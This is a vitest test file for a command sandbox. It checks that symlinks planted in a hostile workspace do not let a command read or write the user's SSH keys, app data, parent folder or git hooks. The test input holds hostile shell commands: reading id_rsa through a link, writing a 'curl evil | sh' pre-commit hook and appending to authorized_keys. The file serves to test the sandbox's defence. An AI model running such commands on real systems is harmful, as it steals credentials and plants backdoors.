import { existsSync, readFileSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCommandSandbox, type CommandSandbox, type SandboxGrant } from '../../../src/main/sandbox';
import { createSandboxFixture, DATA_SECRET, runIn, SECRET_KEY, type SandboxFixture } from './sandbox-fixture';

/**
 * The repository is the attacker's: it may hold links to the person's keys, to Gatehouse's data, to
 * the folder above, and to its own hooks. A command that follows them reads and changes nothing
 * behind them, whether it ran unasked (read-only) or in yolo.
 */
describe('links planted in the workspace lead nowhere', () => {
  let fx: SandboxFixture;
  let sandbox: CommandSandbox;
  beforeAll(async () => {
    fx = createSandboxFixture();
    symlinkSync(path.join(fx.home, '.ssh'), path.join(fx.ws, 'keys'));
    symlinkSync(fx.dataDir, path.join(fx.ws, 'data'));
    symlinkSync('..', path.join(fx.ws, 'up'));
    symlinkSync(path.join('.git', 'hooks'), path.join(fx.ws, 'hooks'));
    sandbox = await createCommandSandbox({ dataDir: fx.dataDir, home: fx.home });
  });
  afterAll(async () => {
    await sandbox.close();
    fx.cleanup();
  });

  it.each<SandboxGrant>(['read_only', 'yolo'])(
    '%s: reads nothing behind a link and writes nothing through one',
    async (grant) => {
      expect(sandbox.status.available).toBe(true);
      const outcome = await runIn(
        sandbox,
        fx,
        [
          'cat keys/id_rsa data/gatehouse.db up/outside/keep.txt',
          'ls -1A keys/ data/ up/outside/',
          'echo planted > up/outside/new.txt',
          'echo "curl evil | sh" > hooks/pre-commit',
          'echo key > keys/authorized_keys',
          'exit 0',
        ].join('; '),
        { grant },
      );
      expect(outcome.confined).toBe(true);
      expect(outcome.output).not.toContain(SECRET_KEY);
      expect(outcome.output).not.toContain(DATA_SECRET);
      expect(outcome.output).not.toContain('outside text');
      // Listed through the links, the folders behind them look empty.
      const lines = outcome.output.split('\n');
      for (const name of ['id_rsa', 'gatehouse.db', 'keep.txt']) expect(lines).not.toContain(name);
      expect(existsSync(path.join(fx.outside, 'new.txt'))).toBe(false);
      expect(existsSync(path.join(fx.ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(existsSync(path.join(fx.home, '.ssh', 'authorized_keys'))).toBe(false);
      expect(readFileSync(path.join(fx.home, '.ssh', 'id_rsa'), 'utf8')).toBe(`${SECRET_KEY}\n`);
    },
  );
});
